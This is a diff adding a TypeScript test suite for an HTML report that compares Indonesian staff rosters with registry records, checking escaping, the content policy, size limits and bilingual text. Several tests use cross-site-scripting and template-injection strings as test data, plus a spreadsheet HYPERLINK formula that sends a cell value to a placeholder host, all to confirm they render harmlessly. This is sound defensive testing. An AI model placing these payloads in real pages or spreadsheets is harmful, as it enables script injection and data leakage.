@@ -1,0 +1,503 @@
+/** laporan.html: complete, safe whatever the data is, and small. What a browser makes of it is tested in one. */
+import { createHash } from "node:crypto";
+import { writeFileSync } from "node:fs";
+import path from "node:path";
+import fc from "fast-check";
+import { beforeAll, describe, expect, test } from "vitest";
+import { LANGUAGES } from "../../src/config/plan.ts";
+import type { Case } from "../../src/finding/case.ts";
+import { ACTIONS, type Action, type FINDING_CODES, VERDICTS } from "../../src/finding/codes.ts";
+import type { SourceRecord } from "../../src/finding/evidence.ts";
+import type { RunEnd } from "../../src/report/case-report.ts";
+import { PressingFirst } from "../../src/report/html/pressing-first.ts";
+import { openHtmlReport } from "../../src/report/html/report.ts";
+import { type Standing, standingIn } from "../../src/report/html/standing.ts";
+import { escaped, html } from "../../src/report/html/template.ts";
+import { FINDING_WORDS } from "../../src/words/finding.ts";
+import { HTML_LABELS, HTML_NOTES } from "../../src/words/html.ts";
+import { ACTION_LABELS, VERDICT_LABELS } from "../../src/words/judgement.ts";
+import { longDate } from "../../src/words/writing.ts";
+import { type RecordedRun, recordedRun, written } from "./recorded-run.ts";
+
+let musiRawas: RecordedRun;
+let hostile: RecordedRun;
+beforeAll(async () => {
+  musiRawas = await recordedRun("musi-rawas");
+  hostile = await recordedRun("sel-jahat");
+});
+
+async function page(run: RecordedRun, context: Parameters<typeof written>[2] = {}): Promise<string> {
+  return (await written(openHtmlReport, run, context)).get("laporan.html")!;
+}
+
+/** The run with its cases many times over, until there are so many. */
+function enlarged(
+  run: RecordedRun,
+  count: number,
+  change: (judged: Case, at: number) => Case = (c) => c,
+): RecordedRun {
+  const cases = Array.from({ length: count }, (_, at) =>
+    change({ ...run.cases[at % run.cases.length]!, caseId: `N-${at}` }, at),
+  );
+  const { summary } = run.end;
+  return {
+    ...run,
+    cases,
+    end: { ...run.end, summary: { ...summary, cases: { ...summary.cases, total: count } } },
+  };
+}
+
+/** Every text that came from a cell or a file name put through `change`. */
+function withTexts(run: RecordedRun, change: (text: string) => string): RecordedRun {
+  const through = <T>(value: T): T => {
+    if (typeof value === "string") return change(value) as T;
+    if (Array.isArray(value)) return value.map(through) as T;
+    if (typeof value !== "object" || value === null) return value;
+    return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, through(inner)])) as T;
+  };
+  const record = ({
+    file,
+    row,
+    cells,
+    person,
+    levels,
+    probability,
+    status,
+    keys,
+  }: SourceRecord): SourceRecord => ({
+    file: change(file),
+    row,
+    cells: through(cells),
+    person,
+    levels,
+    probability,
+    status,
+    keys,
+  });
+  const cases = run.cases.map((judged): Case => {
+    const { roster, sources } = judged.evidence;
+    return {
+      ...judged,
+      evidence: {
+        roster: {
+          ...roster,
+          file: change(roster.file),
+          unit: change(roster.unit),
+          cells: through(roster.cells),
+        },
+        sources: sources.map((source) => ({
+          ...source,
+          compared: source.compared === null ? null : record(source.compared),
+          candidates: source.candidates.map(record),
+          holder: source.holder === null ? null : record(source.holder),
+        })),
+      },
+      findings: judged.findings.map((finding) => ({
+        ...finding,
+        rosterValue: change(finding.rosterValue),
+        sourceValue: change(finding.sourceValue),
+      })),
+      proposed: through(judged.proposed),
+    };
+  });
+  const { summary, duplicates } = run.end;
+  const end: RunEnd = {
+    summary: {
+      ...summary,
+      inputs: summary.inputs.map((input) => ({ ...input, path: change(input.path) })),
+      cases: {
+        ...summary.cases,
+        by_unit: summary.cases.by_unit.map((unit) => ({ ...unit, unit: change(unit.unit) })),
+      },
+    },
+    duplicates: duplicates.map((row) => ({
+      ...row,
+      name: change(row.name),
+      unit: change(row.unit),
+      file: change(row.file),
+    })),
+  };
+  const rejected = [
+    { file: change("daftar.csv"), rejection: { row: 3, reason: "ragged", text: change("a;b") } as const },
+  ];
+  return { cases, end, rejected };
+}
+
+interface Tag {
+  readonly name: string;
+  readonly attributes: ReadonlyMap<string, string>;
+}
+
+const INLINE = /<(style|script)>([\s\S]*?)<\/\1>/g;
+const TAG = /<(?:!DOCTYPE html|\/[a-z][a-z0-9]*|([a-zA-Z][a-zA-Z0-9]*)((?: [a-zA-Z-]+(?:="[^"<]*")?)*)\/?)>/g;
+
+/** The tags of a page; the page is nothing but these and text, or the test fails. */
+function tagsOf(text: string): Tag[] {
+  const markup = text.replace(INLINE, "<$1></$1>");
+  const rest = markup.replace(TAG, "");
+  expect(rest.match(/[<>]/g) ?? []).toEqual([]);
+  return [...markup.matchAll(TAG)].flatMap(([, name, attributes]) => {
+    if (name === undefined) return [];
+    const pairs = [...attributes!.matchAll(/ ([a-zA-Z-]+)(?:="([^"]*)")?/g)];
+    return [{ name, attributes: new Map(pairs.map(([, key, value]) => [key!, value ?? ""])) }];
+  });
+}
+
+/** What the page shows as text, entities resolved. */
+function textOf(text: string): string {
+  return text
+    .replace(INLINE, "")
+    .replace(TAG, " ")
+    .replaceAll("&lt;", "<")
+    .replaceAll("&gt;", ">")
+    .replaceAll("&quot;", '"')
+    .replaceAll("&#39;", "'")
+    .replaceAll("&amp;", "&");
+}
+
+const KNOWN_ATTRIBUTES = new Set(
+  (
+    "lang charset http-equiv content name class href id aria-label aria-labelledby aria-hidden role tabindex hidden " +
+    "data-filter data-value data-action data-code data-row data-s data-sentence data-group rowspan colspan scope " +
+    "type autocomplete spellcheck value viewBox preserveAspectRatio x width height"
+  ).split(" "),
+);
+
+/** Nothing on the page can act but its own script, and nothing points out of the run folder. */
+function expectHarmless(text: string): void {
+  for (const { name, attributes } of tagsOf(text)) {
+    expect(["iframe", "img", "object", "embed", "base", "form", "link"]).not.toContain(name);
+    for (const [key, value] of attributes) {
+      expect(KNOWN_ATTRIBUTES, `${name} ${key}`).toContain(key);
+      if (key === "href") expect(value).toMatch(/^(?:#[a-z]+|[a-z]+\.(?:xlsx|csv|json))$/);
+    }
+  }
+}
+
+describe("the template", () => {
+  test("escapes whatever is put in, and nothing twice", () => {
+    const inner = html`<b>${"<&>"}</b>`;
+    expect(html`<p title="${`"'`}">${inner}${[1, "&", null]}</p>`.text).toBe(
+      '<p title="&quot;&#39;"><b>&lt;&amp;&gt;</b>1&amp;</p>',
+    );
+  });
+
+  test("what is escaped shows as what it was", () => {
+    fc.assert(
+      fc.property(fc.string(), (text) => {
+        expect(escaped(text)).not.toMatch(/[<>"']/);
+        expect(textOf(escaped(text))).toBe(text);
+      }),
+    );
+  });
+});
+
+describe("whatever the cells hold", () => {
+  test("names that look like markup or formulas stay text", async () => {
+    const text = await page(hostile);
+    expectHarmless(text);
+    const shown = textOf(text);
+    expect(shown).toContain("<script>alert(1)</script>");
+    expect(shown).toContain('=HYPERLINK("http://contoh.invalid/?n="&B2,"klik di sini")');
+    expect(shown).toContain("<img src=x onerror=alert(1)>");
+    expect(text.match(/<script/g)).toHaveLength(1);
+  });
+
+  test.each([
+    ['"><img src=x onerror=alert(1)>'],
+    ["</title></style></script><script>alert(1)</script>"],
+    ["<!--"],
+    ["]]><svg onload=alert(1)>"],
+    ["javascript:alert(1)"],
+    ["&lt;b&gt; &#39;"],
+    ["{{constructor.constructor(1)()}}"],
+  ])("%s everywhere does no harm", async (attack) => {
+    const text = await page(withTexts(musiRawas, (cell) => (cell === "" ? "" : cell + attack)));
+    expectHarmless(text);
+    expect(textOf(text)).toContain(attack);
+  });
+
+  test("no text at all does harm", async () => {
+    const few = { ...musiRawas, cases: musiRawas.cases.slice(0, 12) };
+    const unit = fc.oneof(
+      fc.string({ unit: "binary" }),
+      fc.constantFrom("<", ">", '"', "'", "&", "--", "</"),
+    );
+    await fc.assert(
+      fc.asyncProperty(fc.array(unit, { maxLength: 12 }), async (parts) => {
+        expectHarmless(await page(withTexts(few, () => parts.join(""))));
+      }),
+      { numRuns: 20 },
+    );
+  });
+
+  test("direction and control characters are made visible", async () => {
+    const shown = textOf(await page(withTexts(musiRawas, (cell) => `${cell}\u202e\u0007`)));
+    for (const mark of ["\u202e", "\u0007"]) expect(shown).not.toContain(mark);
+    expect(shown).toContain("\ufffd\ufffd");
+  });
+});
+
+describe("the policy", () => {
+  test("allows the one style sheet and the one script, by hash, and nothing else", async () => {
+    const text = await page(musiRawas);
+    const inline = [...text.matchAll(INLINE)];
+    expect(inline.map(([, name]) => name)).toEqual(["style", "script"]);
+    const [style, script] = inline.map(([, , content]) =>
+      createHash("sha256").update(content!).digest("base64"),
+    );
+    const policy = tagsOf(text).find(
+      ({ attributes }) => attributes.get("http-equiv") === "Content-Security-Policy",
+    );
+    expect(policy?.attributes.get("content")?.split("; ")).toEqual([
+      "default-src 'none'",
+      `style-src 'sha256-${style}'`,
+      `script-src 'sha256-${script}'`,
+      "base-uri 'none'",
+      "form-action 'none'",
+    ]);
+  });
+});
+
+describe.each(LANGUAGES)("the report in %s", (language) => {
+  let text: string;
+  let shown: string;
+  beforeAll(async () => {
+    text = await page(musiRawas, { language });
+    shown = textOf(text).replace(/\s+/g, " ");
+  });
+
+  test("says its language and names every section", () => {
+    expect(text).toContain(`<html lang="${language}">`);
+    const sections = tagsOf(text).filter(({ name }) => name === "section");
+    expect(sections.map(({ attributes }) => attributes.get("id"))).toEqual([
+      "funnel",
+      "actions",
+      "verdicts",
+      "codes",
+      "units",
+      "sources",
+      "fields",
+      "duplicates",
+      "rejected",
+      "cases",
+      "about",
+    ]);
+    expect(shown).not.toMatch(/undefined|null|NaN|\[object/);
+  });
+
+  test("gives every figure of the summary beside its label", () => {
+    const { cases, sources } = musiRawas.end.summary;
+    for (const action of ACTIONS)
+      expect(shown).toMatch(figure(ACTION_LABELS[action][language], cases.by_action[action]));
+    for (const verdict of VERDICTS) {
+      expect(shown).toMatch(figure(VERDICT_LABELS[verdict][language], cases.by_verdict[verdict]));
+    }
+    for (const [code, count] of Object.entries(cases.by_code)) {
+      const label = FINDING_WORDS[code as keyof typeof FINDING_CODES].label[language];
+      if (count > 0) expect(shown).toMatch(figure(label, count));
+    }
+    for (const unit of cases.by_unit) {
+      expect(shown).toContain(`${unit.unit} ${unit.cases} ${unit.need_action} ${unit.by_action.interview}`);
+    }
+    for (const source of sources) {
+      expect(shown).toContain(` ${source.rows} ${source.linked} ${source.ambiguous} ${source.not_found} `);
+    }
+  });
+
+  test("lists every case, each to be read without a script", () => {
+    const items = text.split("<li id=").slice(1);
+    expect(items).toHaveLength(musiRawas.cases.length);
+    for (const judged of musiRawas.cases) {
+      const item = textOf(items.find((candidate) => candidate.startsWith(`"${judged.caseId}"`))!);
+      const { cells } = judged.evidence.roster;
+      expect(item).toContain(cells.name.trim().replace(/\s+/g, " "));
+      expect(item).toContain(ACTION_LABELS[judged.action][language]);
+      for (const value of Object.values(judged.proposed)) expect(item).toContain(value);
+    }
+    const list = tagsOf(text).find(({ attributes }) => attributes.get("id") === "list");
+    expect(list?.attributes.has("hidden")).toBe(false);
+  });
+
+  test("lists the most pressing first", () => {
+    const actions = [...text.matchAll(/<li id="[^"]*" data-action="([a-z_]+)"/g)].map(
+      ([, action]) => action as Action,
+    );
+    expect(actions).toEqual(actions.toSorted((a, b) => ACTIONS.indexOf(a) - ACTIONS.indexOf(b)));
+  });
+});
+
+/** A label and, before the next number, its count. */
+function figure(label: string, count: number): RegExp {
+  return new RegExp(`${label.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&")} [^0-9]*\\b${count}\\b`);
+}
+
+test("every label has words in both languages", () => {
+  for (const words of [...Object.values(HTML_LABELS), ...Object.values(HTML_NOTES)]) {
+    for (const language of LANGUAGES) expect(words[language].trim()).not.toBe("");
+  }
+});
+
+test("a date stands as in a letter", () => {
+  expect(longDate("2022-10-01", "id")).toBe("1 Oktober 2022");
+  expect(longDate("2022-10-31", "en")).toBe("31 October 2022");
+});
+
+test("the same run gives the same page", async () => {
+  expect(await page(musiRawas)).toBe(await page(musiRawas));
+});
+
+describe("side by side", () => {
+  function item(name: string, text: string): string {
+    return text.split("<li id=").find((candidate) => candidate.includes(`<b>${name}</b>`))!;
+  }
+
+  test("marks the differing letters on both sides and says who differs alone", async () => {
+    const hartimi = item("HARTIMI", await page(musiRawas));
+    expect(hartimi).toContain(
+      '<td data-s="Daftar" class="off">HARTI<mark>M</mark>I <small>berbeda sendiri</small>',
+    );
+    expect(hartimi).toContain(
+      '<td data-s="Dukcapil" class="off">HARTI<mark>N</mark>I <small>mirip</small> <small>acuan</small>',
+    );
+    expect(hartimi).toContain("26</mark> Juli 1982");
+  });
+
+  test("shows every candidate of a link that is open, and who holds a NIK", async () => {
+    const text = await page(musiRawas);
+    const siti = textOf(item("SITI AMINAH", text.slice(text.indexOf('data-action="review"') - 40)));
+    expect(siti).toContain("calon 1");
+    expect(siti).toContain("calon 2");
+    expect(textOf(item("SUTARTI", text))).toMatch(/pemegang NIK ini\s+baris 15/);
+  });
+
+  test("says once that a source has nobody", async () => {
+    const maya = item("Maya Anggraini, S.Pd.", await page(musiRawas));
+    expect(maya.match(/tidak ditemukan/g)).toHaveLength(1);
+  });
+});
+
+describe("who differs alone", () => {
+  const alone = (judged: Case): Standing["alone"][] =>
+    (["nik", "name", "birth_place", "birth_date", "sex"] as const)
+      .map((field) => standingIn(field, judged).alone)
+      .filter((name) => name !== null);
+
+  test("a document that is out of step is, the roster and the others are not", () => {
+    const cases = musiRawas.cases.filter(
+      (judged) => judged.rule === "ktp_out_of_step" || judged.rule === "diploma_out_of_step",
+    );
+    expect(cases.length).toBeGreaterThan(0);
+    for (const judged of cases) expect(alone(judged)).toContain(judged.facts.outOfStep[0]);
+  });
+
+  test("the registry is, where the KTP sides with the roster", () => {
+    const cases = musiRawas.cases.filter((judged) => judged.rule === "ktp_sides_with_roster");
+    expect(cases.length).toBeGreaterThan(0);
+    for (const judged of cases) expect(alone(judged)).toContain("dukcapil");
+  });
+
+  test("nobody is where everything agrees, nor among two", () => {
+    for (const judged of musiRawas.cases) if (judged.rule === "agrees") expect(alone(judged)).toEqual([]);
+    for (const judged of hostile.cases) expect(alone(judged)).toEqual([]);
+  });
+});
+
+describe("size", () => {
+  test("ten thousand cases stay under two megabytes, the most pressing listed, the others linked", async () => {
+    const run = enlarged(musiRawas, 10_000);
+    const text = await page(run);
+    expect(Buffer.byteLength(text)).toBeLessThan(2_000_000);
+    const listed = [...text.matchAll(/<li id="N-(\d+)" data-action="([a-z_]+)"/g)];
+    expect(listed.length).toBeGreaterThan(500);
+    // what is listed is a beginning of all cases from most to least pressing
+    const inOrder = ACTIONS.flatMap((action) => run.cases.filter((judged) => judged.action === action));
+    expect(listed.map(([, number]) => `N-${number}`)).toEqual(
+      inOrder.slice(0, listed.length).map((judged) => judged.caseId),
+    );
+    expect(textOf(text)).toContain(`${listed.length} dari 10.000 kasus`);
+  });
+
+  test("values as long as a cell can be change nothing about that", async () => {
+    const long = withTexts(musiRawas, (cell) => `${cell}${"<&>".repeat(10_000)}`);
+    const text = await page(enlarged(long, 600));
+    expect(Buffer.byteLength(text)).toBeLessThan(2_000_000);
+    expect(text.match(/<li id="N-/g)!.length).toBeGreaterThan(50);
+  });
+
+  test("as many agencies, duplicates and rejected rows as cases do neither", async () => {
+    const { summary, duplicates } = musiRawas.end;
+    const many = <T>(value: T): T[] => new Array<T>(5000).fill(value);
+    const text = await page({
+      cases: musiRawas.cases,
+      rejected: many({
+        file: "daftar.csv",
+        rejection: { row: 3, reason: "ragged", text: "x".repeat(200) } as const,
+      }),
+      end: {
+        summary: {
+          ...summary,
+          inputs: summary.inputs.map((input) => ({ ...input, rows: { ...input.rows, rejected: 1000 } })),
+          cases: { ...summary.cases, by_unit: many(summary.cases.by_unit[0]!) },
+        },
+        duplicates: many(duplicates[0]!),
+      },
+    });
+    expect(Buffer.byteLength(text)).toBeLessThan(1_000_000);
+    expect(textOf(text)).toMatch(/4\.900 lagi ada di\s+summary\.json/);
+    expect(textOf(text)).toMatch(/4\.800 lagi ada di\s+duplicates\.csv/);
+    expect(textOf(text)).toMatch(/lagi ada di\s+rejected\.csv/);
+  });
+
+  test("all cases are linked to where they are: the workbook only when there is one", async () => {
+    const run = enlarged(musiRawas, 2000);
+    const withWorkbook = await written(async (context) => {
+      for (const file of ["laporan.xlsx", "cases.csv"]) writeFileSync(path.join(context.folder, file), "");
+      return openHtmlReport(context);
+    }, run);
+    const note = (text: string): string =>
+      textOf(text.slice(text.indexOf('id="h-cases"'), text.indexOf('id="filters"')));
+    expect(note(withWorkbook.get("laporan.html")!)).toMatch(/laporan\.xlsx\s*,\s*cases\.csv/);
+    expect(note(await page(run))).not.toContain("laporan.xlsx");
+  });
+});
+
+describe("a list with limited room", () => {
+  const ITEMS = fc.array(
+    fc.record({ action: fc.constantFrom(...ACTIONS), size: fc.integer({ min: 1, max: 30 }) }),
+    {
+      maxLength: 60,
+    },
+  );
+
+  test("never has more than fits, and what it has is a beginning from most to least pressing", () => {
+    fc.assert(
+      fc.property(
+        ITEMS,
+        fc.integer({ min: 0, max: 400 }),
+        fc.integer({ min: 0, max: 400 }),
+        (items, room, free) => {
+          const list = new PressingFirst(room);
+          const texts = items.map(({ size }, at) => `${at}`.padEnd(Math.max(size, 2)));
+          for (const [at, { action }] of items.entries())
+            if (list.wants(action)) list.add(action, texts[at]!);
+          list.shrink(free);
+          const kept = [...list.texts()];
+          const inOrder = ACTIONS.flatMap((action) => texts.filter((_, at) => items[at]!.action === action));
+          expect(kept).toEqual(inOrder.slice(0, kept.length));
+          expect(list.count).toBe(kept.length);
+          expect(kept.join("").length).toBeLessThanOrEqual(Math.max(0, room - free));
+        },
+      ),
+    );
+  });
+});
+
+test("a masked report says that it is, and an unmasked one how to keep it", async () => {
+  const masked = textOf(await page(musiRawas, { masked: true }));
+  expect(masked).toContain(HTML_LABELS.maskedHere.id);
+  expect(masked).toContain(HTML_NOTES.masked.id);
+  const plain = textOf(await page(musiRawas));
+  expect(plain).not.toContain(HTML_LABELS.maskedHere.id);
+  expect(plain).toContain(HTML_NOTES.personalData.id);
+});
